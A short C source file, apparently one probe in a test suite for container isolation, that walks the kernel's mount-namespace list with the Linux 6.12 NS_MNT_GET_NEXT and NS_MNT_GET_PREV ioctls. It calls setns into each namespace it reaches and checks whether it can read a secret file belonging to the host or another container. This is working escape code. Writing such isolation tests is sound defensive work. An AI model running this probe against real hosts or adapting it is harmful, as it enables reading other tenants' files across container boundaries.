// SPDX-License-Identifier: GPL-2.0-only
// From the caller's mount namespace to those of all others, by the ioctls
// NS_MNT_GET_NEXT and NS_MNT_GET_PREV of Linux 6.12; no process has to be seen.
// Victims: host other
#include <sched.h>
#include <stdint.h>
#include <sys/ioctl.h>

#include "attack.h"

struct ns_info {
	uint32_t size;
	uint32_t nr_mounts;
	uint64_t mnt_ns_id;
};

#define GET_NEXT	_IOR(0xb7, 11, struct ns_info)
#define GET_PREV	_IOR(0xb7, 12, struct ns_info)

/* in a process of its own: the root is another one afterwards */
static void look(int fd)
{
	int status;
	pid_t pid = fork();

	if (!pid)
		_exit(!setns(fd, CLONE_NEWNS) && file_has_secret(AT_FDCWD));
	NEED(waitpid(pid, &status, 0) == pid);
	if (status)
		worked("the victim's mount namespace is entered");
}

static int walk(int fd, unsigned long cmd)
{
	struct ns_info info;
	int next;

	while ((next = ioctl(fd, cmd, &info)) >= 0) {
		look(next);
		fd = next;
	}
	return fd;
}

int main(void)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY);

	if (fd < 0)
		refused("/proc/self/ns/mnt");
	walk(walk(fd, GET_NEXT), GET_PREV);
	refused("NS_MNT_GET_PREV");
}
